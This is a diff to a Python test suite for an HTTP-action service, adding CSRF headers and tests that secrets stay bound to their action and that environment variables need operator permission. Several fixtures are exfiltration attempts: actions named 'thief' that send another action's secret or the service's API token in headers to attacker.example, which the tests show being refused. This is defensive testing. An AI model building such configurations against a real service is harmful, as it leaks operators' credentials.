@@ -6,7 +6,10 @@ import json
 import sqlite3
 
 import pytest
-from service_support import CAPPING, Endpoint, Service, action
+from service_support import CAPPING, Endpoint, Service, action, client_for, make_app
+
+# A state-changing request without a body says it is no cross-site form (service/security.py).
+NO_BODY = {"content-type": "application/json"}
 
 
 def problems(response) -> dict[str, str]:
@@ -74,7 +77,9 @@ async def test_bodies_that_are_not_json_are_refused(service: Service) -> None:
         "/actions", content=b"{nope", headers={"content-type": "application/json"}
     )
     assert not_json.status_code == 400
-    form = await service.client.post("/actions", content=b"name=x", headers={"content-type": "text/plain"})
+    form = await service.client.post(
+        "/actions", content=b"name=x", headers={"content-type": "text/plain", "x-csrf-token": "script"}
+    )
     assert form.status_code == 415
     array = await service.client.post("/actions", json=[1, 2])
     assert array.status_code == 422
@@ -121,7 +126,7 @@ async def test_name_description_url_and_authentication_stay_editable_when_live(s
 
 
 async def test_duplicate_copies_the_action_and_its_sealed_secrets(service: Service) -> None:
-    answer = await service.client.post("/actions/loyaltyUpdate/duplicate")
+    answer = await service.client.post("/actions/loyaltyUpdate/duplicate", headers=NO_BODY)
     assert answer.status_code == 201
     copy = answer.json()
     assert copy["action"]["name"] == "loyaltyUpdate_copy"
@@ -136,7 +141,7 @@ async def test_duplicate_copies_the_action_and_its_sealed_secrets(service: Servi
 
 
 async def test_delete_refuses_an_action_in_use_and_removes_one_that_is_not(service: Service) -> None:
-    used = await service.client.delete("/actions/slackNotify")
+    used = await service.client.delete("/actions/slackNotify", headers=NO_BODY)
     assert used.status_code == 409
     assert used.json()["refused"] == [{"field": "delete", "journeys": ["cartRecovery"]}]
     before = service.state.store.counts()["secrets"]
@@ -144,7 +149,7 @@ async def test_delete_refuses_an_action_in_use_and_removes_one_that_is_not(servi
         "/actions", json=action(authentication={"type": "basic", "username": "u", "password": "pw"})
     )
     assert service.state.store.counts()["secrets"] == before + 1
-    assert (await service.client.delete("/actions/notify")).status_code == 204
+    assert (await service.client.delete("/actions/notify", headers=NO_BODY)).status_code == 204
     assert (await service.client.get("/actions/notify")).status_code == 404
     assert service.state.store.counts()["secrets"] == before  # its secret went with it
 
@@ -268,6 +273,114 @@ async def test_a_reference_to_an_unknown_console_secret_is_refused(service: Serv
     assert problems(answer) == {"authentication.password": "unknown console secret 's_0000000000000000'"}
 
 
+async def test_a_sealed_secret_belongs_to_its_action_and_no_other_may_reference_it(
+    service: Service,
+) -> None:
+    owner = action(name="owner", authentication={"type": "basic", "username": "u", "password": "p4ss"})
+    assert (await service.client.post("/actions", json=owner)).status_code == 201
+    stored = (await service.client.get("/actions/owner")).json()["action"]
+    reference = stored["authentication"]["password"]
+    secret_id = reference.split(":")[1].strip(" }")
+
+    # A new action naming it, in its authentication or in a header sent anywhere: refused.
+    thief = action(name="thief", url="https://attacker.example/collect")
+    thief["endpoint"]["headers"] = [{"name": "X-Loot", "value": reference}]
+    answer = await service.client.post("/actions", json=thief)
+    assert answer.status_code == 422
+    assert problems(answer) == {
+        "endpoint.headers[0].value": f"console secret {secret_id!r} belongs to another action: "
+        "type the value again to seal a copy for this one"
+    }
+    assert (await service.client.get("/actions/thief")).status_code == 404
+
+    # An existing action edited to name it: refused, and it stays as it was; validate says so too.
+    assert (await service.client.post("/actions", json=action(name="other"))).status_code == 201
+    edited = action(name="other", authentication={"type": "basic", "username": "u", "password": reference})
+    assert (await service.client.put("/actions/other", json=edited)).status_code == 422
+    assert (await service.client.post("/actions/validate?replacing=other", json=edited)).status_code == 422
+    assert "authentication" not in (await service.client.get("/actions/other")).json()["action"]
+
+    # Its own action re-saves it as it is, renamed or not.
+    stored["description"] = "Still mine"
+    assert (await service.client.put("/actions/owner", json=stored)).status_code == 200
+    stored["name"] = "owner2"
+    assert (await service.client.put("/actions/owner", json=stored)).status_code == 200
+    again = (await service.client.get("/actions/owner2")).json()["action"]
+    assert again["authentication"]["password"] == reference
+
+
+async def test_an_action_naming_an_environment_variable_it_may_not_read_is_refused_at_save(
+    service: Service, monkeypatch: pytest.MonkeyPatch
+) -> None:
+    monkeypatch.setenv("ACTIONRT_API_TOKEN", "the-api-token")
+    monkeypatch.delenv("ACTIONRT_ENV_SECRETS", raising=False)
+    thief = action(name="thief", url="https://attacker.example/collect")
+    thief["endpoint"]["headers"] = [
+        {"name": "X-Key", "value": "{{ secrets.ACTIONRT_API_TOKEN }}"},
+        {"name": "X-Home", "value": "{{ secrets.HOME }}"},
+    ]
+    answer = await service.client.post("/actions", json=thief)
+    assert answer.status_code == 422
+    found = problems(answer)
+    assert found["endpoint.headers[0].value"] == (
+        "secret 'ACTIONRT_API_TOKEN' may not be read: "
+        "ACTIONRT_* variables are actionrt's own settings, never secrets"
+    )
+    assert found["endpoint.headers[1].value"].startswith("secret 'HOME' may not be read from the environment")
+    assert (await service.client.get("/actions/thief")).status_code == 404
+    assert "the-api-token" not in answer.text
+
+
+async def test_the_service_reads_the_environment_variables_the_operator_allows(
+    tmp_path, endpoint: Endpoint, monkeypatch: pytest.MonkeyPatch
+) -> None:
+    monkeypatch.setenv("CRM_TOKEN", "crm-token-7")
+    monkeypatch.setenv("PAYROLL_TOKEN", "payroll-token")
+    app = make_app(tmp_path, examples=None, env_secrets=["CRM_*"])
+    async with client_for(app) as client:
+        allowed = action(
+            url=f"{endpoint.base_url}/ok",
+            authentication={"type": "bearer", "token": "{{ secrets.CRM_TOKEN }}"},
+        )
+        assert (await client.post("/actions", json=allowed)).status_code == 201
+        answer = await client.post("/actions/notify/invoke", json={"params": {"email": "a@example.com"}})
+        assert answer.json()["status"] == "http_200"
+        assert endpoint.received[-1].headers["Authorization"] == "Bearer crm-token-7"
+        other = action(
+            name="payroll", authentication={"type": "bearer", "token": "{{ secrets.PAYROLL_TOKEN }}"}
+        )
+        assert (await client.post("/actions", json=other)).status_code == 422
+    await app.state.service.calls.aclose()
+
+
+async def test_a_stored_action_reading_a_variable_no_longer_allowed_is_skipped_at_load(
+    tmp_path, monkeypatch: pytest.MonkeyPatch, caplog: pytest.LogCaptureFixture
+) -> None:
+    from actionrt.service.catalog import Catalog
+    from actionrt.service.store import Store
+
+    monkeypatch.setenv("ACTIONRT_ENV_SECRETS", "CRM_TOKEN")
+    app = make_app(tmp_path, examples=None)
+    async with client_for(app) as client:
+        crm = action(name="crm", authentication={"type": "bearer", "token": "{{ secrets.CRM_TOKEN }}"})
+        assert (await client.post("/actions", json=crm)).status_code == 201
+        assert (await client.post("/actions", json=action(name="plain"))).status_code == 201
+    await app.state.service.calls.aclose()
+    app.state.service.store.close()
+
+    monkeypatch.delenv("ACTIONRT_ENV_SECRETS")  # the operator no longer allows it
+    store = Store(tmp_path / "store.db")
+    catalog = Catalog(store, app.state.service.catalog.vault, entry_points=False)
+    skipped = catalog.load()
+    assert list(catalog.registry.actions) == ["plain"]
+    assert [str(p) for p in skipped] == [
+        "<store>/actions/crm: authentication.token: secret 'CRM_TOKEN' may not be read from the "
+        "environment: the operator allows names with env_secrets=['CRM_TOKEN'] (serve --env-secret "
+        "CRM_TOKEN, or ACTIONRT_ENV_SECRETS=CRM_TOKEN)"
+    ]
+    store.close()
+
+
 # -- calls ------------------------------------------------------------------------------------
 
 
@@ -347,6 +460,7 @@ async def test_credentials_read_from_the_environment_can_be_re_entered_for_a_tes
     # a test must not need the service restarted with those variables set.
     monkeypatch.delenv("SVC_USER_T1", raising=False)
     monkeypatch.delenv("SVC_PASSWORD_T1", raising=False)
+    monkeypatch.setenv("ACTIONRT_ENV_SECRETS", "SVC_USER_T1,SVC_PASSWORD_T1")
     document = action(
         url=f"{endpoint.base_url}/ok",
         authentication={
@@ -512,18 +626,18 @@ async def test_rules_are_created_deployed_undeployed_listed_and_deleted(service:
     uid = rule["uid"]
     limits = service.state.calls.limits
     assert limits.matching("POST", "https://api.example.com/v1/x") == []
-    deployed = await service.client.post(f"/limits/rules/{uid}/deploy")
+    deployed = await service.client.post(f"/limits/rules/{uid}/deploy", headers=NO_BODY)
     assert deployed.json()["deployed"] is True
     assert len(limits.matching("POST", "https://api.example.com/v1/x")) == 1
-    assert (await service.client.delete(f"/limits/rules/{uid}")).status_code == 409
+    assert (await service.client.delete(f"/limits/rules/{uid}", headers=NO_BODY)).status_code == 409
     throttling = {"urlPattern": "https://api.example.com/*", "methods": ["POST"], "maxThroughput": 300}
     await service.client.post("/limits/throttling", json=throttling)
     listed = (await service.client.get("/limits/rules")).json()["rules"]
     assert [(r["kind"], r["deployed"]) for r in listed] == [("capping", True), ("throttling", False)]
     assert len((await service.client.get("/limits/rules?kind=throttling")).json()["rules"]) == 1
-    await service.client.post(f"/limits/rules/{uid}/undeploy")
+    await service.client.post(f"/limits/rules/{uid}/undeploy", headers=NO_BODY)
     assert limits.matching("POST", "https://api.example.com/v1/x") == []
-    assert (await service.client.delete(f"/limits/rules/{uid}")).status_code == 204
+    assert (await service.client.delete(f"/limits/rules/{uid}", headers=NO_BODY)).status_code == 204
     assert (await service.client.get(f"/limits/rules/{uid}")).status_code == 404
 
 
@@ -549,7 +663,7 @@ async def test_invalid_rules_name_their_fields(service: Service) -> None:
 
 async def test_deployed_rules_survive_a_restart(service: Service) -> None:
     uid = (await service.client.post("/limits/capping", json=CAPPING)).json()["uid"]
-    await service.client.post(f"/limits/rules/{uid}/deploy")
+    await service.client.post(f"/limits/rules/{uid}/deploy", headers=NO_BODY)
     restarted = _restart(service)
     assert [(e.uid, e.deployed) for e in restarted.limits.rules()] == [(uid, True)]
 
